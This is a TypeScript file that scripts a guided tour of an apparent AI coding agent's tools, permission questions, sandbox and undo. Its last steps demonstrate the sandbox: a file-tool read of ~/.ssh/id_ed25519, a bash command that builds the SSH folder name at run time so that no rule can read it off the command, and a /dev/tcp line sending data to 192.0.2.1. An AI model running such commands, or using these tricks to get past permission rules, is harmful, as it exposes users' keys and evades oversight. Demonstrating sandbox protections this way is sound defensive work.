// The tour itself: steps of words and calls, each chosen from what the ones before gave. Used by model.ts.
import type { Done, Facts, Intent } from './facts.ts'
import { linesOf, notAnAi, pathsOf } from './facts.ts'
import { safeEdit, suits } from './safe-edit.ts'
import { introduction, menu } from './words.ts'

/** What the script knows besides the conversation. */
export interface Setting {
	/** The sample project instead of a copy of the user's folder, and why; null for a copy. */
	sampleWhy: string | null
	/** Whether commands run in the OS sandbox; asked only before the steps that need to know. */
	sandboxed(): Promise<boolean>
	/** How a model is had, from where the tour is played. */
	ways: string
}

export interface Reply {
	text: string
	calls: { part: string; name: string; input: Record<string, unknown> }[]
}

/** One reply. It is over when a call of its name was made; null leaves it out. */
interface Step {
	name: string
	reply(facts: Facts, setting: Setting): Promise<Reply | null> | Reply | null
}

/** An address set aside for documentation: even outside the sandbox nobody is there to receive anything. */
export const nobody = '192.0.2.1'

const count = (n: number, one: string, many = `${one}s`): string => `${n.toLocaleString('en')} ${n === 1 ? one : many}`
const join = (...parts: (string | null | undefined)[]): string => parts.filter(Boolean).join('\n\n')
/** Only the whole tour counts its stations. */
const nth = (facts: Facts, n: number): string => (facts.done.has('look-kind') ? `${n}. ` : '')
const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`

const testGlob =
	'**/{*.test.*,*.spec.*,*_test.*,test_*.py,*_spec.rb,*Test.java,*Test.kt,*Tests.cs,*Test.php,tests/*.rs,t/*.t}'
const kinds: [RegExp, string][] = [
	[/^package\.json$/, 'Node'],
	[/^(?:pyproject\.toml|setup\.py|requirements\.txt)$/, 'Python'],
	[/^Cargo\.toml$/, 'Rust'],
	[/^go\.mod$/, 'Go'],
	[/^(?:pom\.xml|build\.gradle(?:\.kts)?)$/, 'Java'],
	[/^composer\.json$/, 'PHP'],
	[/^Gemfile$/, 'Ruby'],
	[/^CMakeLists\.txt$/, 'CMake'],
	[/^Makefile$/, 'Make'],
]
const markerGlob =
	'{package.json,pyproject.toml,setup.py,requirements.txt,Cargo.toml,go.mod,pom.xml,build.gradle,build.gradle.kts,composer.json,Gemfile,CMakeLists.txt,Makefile}'

const findTests = { part: 'look-tests', name: 'glob', input: { pattern: testGlob } }
const findFiles = (step: string) => ({ part: `${step}-files`, name: 'glob', input: { pattern: '**/*' } })
const grepTodos = { part: 'todo-grep', name: 'grep', input: { pattern: '\\b(?:TODO|FIXME)\\b' } }

/** The file that the edit is made in: read by the step before. */
const chosen = (facts: Facts): string | null => {
	const paths = pathsOf(facts.done.get('look-files') ?? facts.done.get('list-files'))
	const ranked = paths
		// A name with odd characters is shown escaped in the list, so it would not be found again.
		.filter((path) => /^[\p{L}\p{N}_][\p{L}\p{N}_./@+ -]*$/u.test(path))
		.flatMap((path) => {
			const rank = suits(path)
			return rank === null ? [] : [{ path, rank }]
		})
	ranked.sort((a, b) => a.rank - b.rank)
	return ranked[0]?.path ?? null
}

const changeOf = (facts: Facts): Done | undefined => {
	const edit = facts.done.get('edit-file')
	return edit?.status === 'failed' ? (facts.done.get('own-file') ?? edit) : (edit ?? facts.done.get('own-file'))
}
const changed = (facts: Facts): boolean => changeOf(facts)?.status === 'ok'

const aboutTests = (facts: Facts): string => {
	const tests = pathsOf(facts.done.get('look-tests'))
	const first = tests.slice(0, 3).join(', ')
	return tests.length === 0
		? 'No file here is named like a test.'
		: `${count(tests.length, 'file is', 'files are')} named like tests: ${first}${tests.length > 3 ? ', …' : ''}.`
}

const aboutKind = (facts: Facts): string => {
	const names = pathsOf(facts.done.get('look-kind')).map((path) => path.split('/').at(-1)!)
	const found = [...new Set(kinds.flatMap(([mark, kind]) => (names.some((name) => mark.test(name)) ? [kind] : [])))]
	return found.length > 0
		? `It looks like a ${found.join(' and ')} project.`
		: 'It holds none of the usual project files.'
}

const aboutTodos = (facts: Facts): string => {
	const grep = facts.done.get('todo-grep')
	const found = /\[([\d,]+(?: or more)?) matching lines? in ([\d,]+) files?/.exec(grep?.text ?? '')
	if (grep?.status !== 'ok') return 'The search did not run.'
	return found
		? `TODO or FIXME stands in ${found[1]} ${found[1] === '1' ? 'line' : 'lines'}, in ${count(Number(found[2]!.replaceAll(',', '')), 'file')}.`
		: 'No TODO and no FIXME here.'
}

const aboutChange = (facts: Facts): string | null => {
	const change = changeOf(facts)
	if (!change) return null
	if (change.status === 'ok') return 'It is written, and the state before it is kept for /undo.'
	if (/plan mode/.test(change.text) && change.status === 'denied')
		return 'Plan mode is on, so nothing was written: the mode decides before any question.'
	if (change.status === 'denied') return 'The answer was no, so nothing was written. A no needs no reason.'
	return 'It was not written; the result says why.'
}

// ---------------------------------------------------------------- steps

const look: Step = {
	name: 'look',
	reply: (_facts, { sampleWhy }) => ({
		text: join(
			'Only the words are canned. The tools, the questions, the sandbox and the undo are the real ones, as a model would use them.',
			sampleWhy === null
				? 'It works in a private copy of your folder: your own files stay as they are.'
				: `${sampleWhy}, so it works in a small sample project. Your own files stay as they are.`,
			'1. Looking around: which files, which tests, what kind of project. Reading inside the folder needs no question.',
		),
		calls: [findTests, { part: 'look-kind', name: 'glob', input: { pattern: markerGlob } }, findFiles('look')],
	}),
}

const todos: Step = {
	name: 'todo',
	reply: (facts) => ({
		text: join(`${aboutKind(facts)} ${aboutTests(facts)}`, '2. Searching for TODO and FIXME.'),
		calls: [grepTodos],
	}),
}

const list: Step = {
	name: 'list',
	reply: () => ({ text: 'First, which files are there?', calls: [findFiles('list')] }),
}

const read: Step = {
	name: 'read',
	reply(facts) {
		const path = chosen(facts)
		if (path === null) return null
		const before = facts.done.has('todo-grep') ? aboutTodos(facts) : null
		return {
			text: join(before, `${nth(facts, 3)}Reading ${path}: only a file that was read can be edited.`),
			calls: [{ part: 'read-file', name: 'read_file', input: { path, limit: 40 } }],
		}
	},
}

const edit: Step = {
	name: 'edit',
	reply(facts) {
		const path = chosen(facts)
		const safe = path === null ? null : safeEdit({ path, lines: linesOf(facts.done.get('read-file')) })
		if (path === null || safe === null) return null
		return {
			text: `${nth(facts, 4)}One safe change: a ${safe.what} in ${path}. The question before it shows the whole diff; where edits are accepted already, none is asked.`,
			calls: [{ part: 'edit-file', name: 'edit_file', input: { path, old_string: safe.old, new_string: safe.new } }],
		}
	},
}

/** Where no file is fit for a comment, or the edit did not fit after all: a file of its own. */
const own: Step = {
	name: 'own',
	reply(facts) {
		const before = facts.done.get('edit-file')
		if (before && before.status !== 'failed') return null
		const used = new Set(pathsOf(facts.done.get('look-files') ?? facts.done.get('list-files')))
		let path = 'garuda-tour.md'
		for (let n = 2; used.has(path); n++) path = `garuda-tour-${n}.md`
		const todo = facts.done.has('read-file') || !facts.done.has('todo-grep') ? null : aboutTodos(facts)
		return {
			text: join(
				todo,
				before ? 'That did not fit, and nothing was changed.' : 'No file here surely stays valid with a comment in it.',
				`${nth(facts, 4)}So one safe change in a new file, ${path}. The question before it shows all of it; where edits are accepted already, none is asked.`,
			),
			calls: [
				{
					part: 'own-file',
					name: 'write_file',
					input: { path, content: "# Garuda's tour\n\nThis file was written by the tour; /undo takes it back.\n" },
				},
			],
		}
	},
}

const command: Step = {
	name: 'run',
	async reply(facts, setting) {
		const path = changeOf(facts)?.input.path
		const parts = ['ls']
		if (changed(facts) && typeof path === 'string') parts.push(`grep -n "Garuda's tour" -- ${quoted(path)}`)
		if (setting.sampleWhy !== null)
			parts.push('node --test 2>/dev/null || echo "(no Node here that could run its test)"')
		const where = (await setting.sandboxed())
			? 'It runs in the sandbox: it can write here and in its temp folder, reach no network and see no secret of yours.'
			: 'There is no sandbox on this machine, so each command asks before it runs.'
		return {
			text: join(aboutChange(facts), `5. A command. ${where}`),
			calls: [{ part: 'run-command', name: 'bash', input: { command: parts.join('\n'), timeout_ms: 30_000 } }],
		}
	},
}

const key: Step = {
	name: 'key',
	reply: (facts) => ({
		text: join(
			ran(facts.done.get('run-command')),
			`${nth(facts, 6)}Now what a model that was tricked might try: reading an SSH key with the file tools.`,
		),
		calls: [{ part: 'key-file', name: 'read_file', input: { path: '~/.ssh/id_ed25519' } }],
	}),
}

const ran = (done: Done | undefined): string | null =>
	!done
		? null
		: done.status === 'ok'
			? 'It ran.'
			: done.status === 'denied'
				? 'It was denied, so it did not run.'
				: 'It ran and failed; the result says how.'

/** Counts and never shows: even where nothing stopped it, no secret would come into the conversation. Ends with 0, so nothing is asked. */
const hiddenCommand = [
	'# The name is put together at the run, so that no rule can read it off the command.',
	'name=ss',
	'ls -A "$HOME/.$name"h 2>/dev/null | wc -l | sed "s/^ */files that it can see there: /"',
	'cat "$HOME/.$name"h/id_* 2>/dev/null | wc -c | sed "s/^ */bytes of keys that it can read: /"',
].join('\n')

const refusedKey = (facts: Facts): string => {
	const done = facts.done.get('key-file')
	return done?.status === 'ok'
		? 'That was NOT refused: please report it.'
		: 'Refused, and no question asked: there is no yes to give by mistake.'
}

const hidden: Step = {
	name: 'hidden',
	async reply(facts, setting) {
		if (!(await setting.sandboxed())) return null
		return {
			text: join(
				refusedKey(facts),
				`${nth(facts, 7)}The same by a command that hides what it is after. It does run, in the sandbox.`,
			),
			calls: [{ part: 'hidden-command', name: 'bash', input: { command: hiddenCommand, timeout_ms: 10_000 } }],
		}
	},
}

const aboutHidden = (facts: Facts): string => {
	const done = facts.done.get('hidden-command')
	const seen = [...(done?.text ?? '').matchAll(/(?:see there|can read): (\d+)$/gm)].map((found) => Number(found[1]))
	if (done?.status !== 'ok' || seen.length !== 2) return 'It did not get that far; the result says why.'
	return seen.every((n) => n === 0)
		? 'Nothing was there to see: in the sandbox ~/.ssh and the like are empty, however they are spelled.'
		: 'It could see something there: the sandbox as set up on this machine does not hide it. /status says what runs commands.'
}

/** The address comes as an argument: written out as a redirection, the gate would ask before it ran, and the sandbox had nothing to show. */
const networkCommand = `timeout 3 bash -c 'echo secret > "/dev/tcp/$0/443"' ${nobody}`

const network: Step = {
	name: 'net',
	async reply(facts, setting) {
		if (!(await setting.sandboxed())) return null
		return {
			text: join(
				aboutHidden(facts),
				`${nth(facts, 8)}And sending something away (${nobody} is an address for examples: nobody is there). A command that the sandbox stopped may ask to run outside it. This one has no good reason: say no.`,
			),
			calls: [
				{
					part: 'net-command',
					name: 'bash',
					input: { command: networkCommand, timeout_ms: 10_000 },
				},
			],
		}
	},
}

const aboutNetwork = (facts: Facts): string => {
	const done = facts.done.get('net-command')
	if (!done) return ''
	if (/ran again outside the sandbox/.test(done.text))
		return 'You let it run outside the sandbox, so it did. There it had your network and all your rights.'
	if (done.status === 'ok') return 'It got out: the sandbox as set up on this machine lets commands reach the network.'
	if (/Denied|was refused/.test(done.text)) return 'Denied: it did not get out, and the no was the end of it.'
	return 'It did not get out: there is no network in the sandbox.'
}

// ---------------------------------------------------------------- ends

const noSandbox =
	'The tour has two more attempts, at secrets and at the network by commands. It leaves them out: commands have no sandbox on this machine, so only your answer would stop them. /status and the notice at the start say more.'

async function dangerEnd(facts: Facts, setting: Setting): Promise<string> {
	return (await setting.sandboxed()) ? aboutNetwork(facts) : join(refusedKey(facts), noSandbox)
}

/** The prompt of a played tour: its director shows, takes back and names the ways to a model after it. */
export const directed = 'show me, then undo it'

/** What the whole turn did: where only the last words are read (a script), they must tell it. */
function whole(facts: Facts): string {
	const path = changeOf(facts)?.input.path
	const change = changed(facts) ? `changed ${String(path)}, as the diff showed it` : 'changed nothing'
	return `That was a whole turn. It looked around (${count(pathsOf(facts.done.get('look-files')).length, 'file')}) and searched, ${change}, ran a command, asked for an SSH key and did not get it. It is recorded as any session is, for /undo and /diff; the record goes with the scratch copy when the tour ends.`
}

const takeBack = (facts: Facts): string =>
	changed(facts)
		? 'The change of this turn is still there: /diff shows it, /undo takes it back, /redo brings it again.'
		: 'Nothing was changed, so there is nothing to take back.'

interface Route {
	steps: Step[]
	end(facts: Facts, setting: Setting): Promise<string> | string
}

const routes: Record<Intent, Route> = {
	all: {
		steps: [look, todos, read, edit, own, command, key, hidden, network],
		end: async (facts, setting) =>
			join(
				await dangerEnd(facts, setting),
				whole(facts),
				takeBack(facts),
				facts.prompt === directed ? null : setting.ways,
			),
	},
	tests: {
		steps: [
			{ name: 'look', reply: () => ({ text: 'Looking for files that are named like tests.', calls: [findTests] }) },
		],
		end: (facts) =>
			join(
				aboutTests(facts),
				'A model would go on from here: read them, run them, mend them. Say "show me" for the whole tour.',
			),
	},
	todo: {
		steps: [{ name: 'todo', reply: () => ({ text: 'Searching for TODO and FIXME.', calls: [grepTodos] }) }],
		end: (facts) =>
			join(aboutTodos(facts), 'A model would go on from here and work them off. Say "show me" for the whole tour.'),
	},
	edit: {
		steps: [list, read, edit, own],
		end: (facts) => join(aboutChange(facts), takeBack(facts)),
	},
	danger: {
		steps: [key, hidden, network],
		end: async (facts, setting) => join(await dangerEnd(facts, setting), 'Say "show me" for the whole tour.'),
	},
	undo: {
		steps: [],
		end: () =>
			'That is not for a model to do, but for you: type /undo and the last turn is taken back, its files and its words. /redo brings it again, /diff shows what changed.',
	},
	help: { steps: [], end: (_facts, setting) => join(menu, setting.ways) },
	other: {
		steps: [],
		end: (facts, setting) =>
			join(
				facts.introduced
					? `That needs a model. The tour is a fixed script, ${notAnAi}: it does not understand what you write.`
					: 'What you wrote needs a model: a script does not understand it.',
				setting.ways,
				menu,
			),
	},
}

/** The next reply of a route; without calls it is the last. The first of a conversation says what this is. */
export async function nextReply(intent: Intent, facts: Facts, setting: Setting): Promise<Reply> {
	const route = routes[intent]
	const names = new Set([...facts.done.keys()].map((part) => part.split('-')[0]))
	const labelled = (reply: Reply): Reply =>
		facts.introduced ? reply : { ...reply, text: join(introduction, reply.text) }
	// Steps before the last one made were left out for good.
	const last = route.steps.findLastIndex((step) => names.has(step.name))
	for (const step of route.steps.slice(last + 1)) {
		const reply = await step.reply(facts, setting)
		if (reply) return labelled(reply)
	}
	return labelled({ text: await route.end(facts, setting), calls: [] })
}
